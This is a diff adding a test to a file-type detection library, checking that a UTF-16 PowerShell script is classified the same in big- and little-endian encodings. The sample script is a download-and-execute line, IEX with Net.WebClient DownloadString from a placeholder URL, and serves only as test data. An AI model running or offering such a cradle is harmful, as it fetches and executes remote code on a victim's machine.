@@ -83,6 +83,12 @@ describe('file type', () => {
     }
     const java = await type(Buffer.from('cafebabe00000034', 'hex'));
     assert.notEqual(java.type, 'macho', 'a Java class file is not a fat Mach-O');
+    // A PowerShell script in UTF-16 big-endian with its BOM, as in little-endian.
+    const ps = 'IEX (New-Object Net.WebClient).DownloadString("http://x/y")\nInvoke-Expression $a\n';
+    const le = await type(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ps, 'utf16le')]));
+    const be = await type(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(ps, 'utf16le').swap16()]));
+    assert.deepEqual([be.type, be.format], [le.type, le.format]);
+    assert.equal(be.type, 'script');
     // Zip64 (zip -fz): the entries come from the Zip64 end record, not one local header.
     const docx = await type(
       asZip64(buildZip({ '[Content_Types].xml': '<T/>', 'word/document.xml': '<w/>' })),
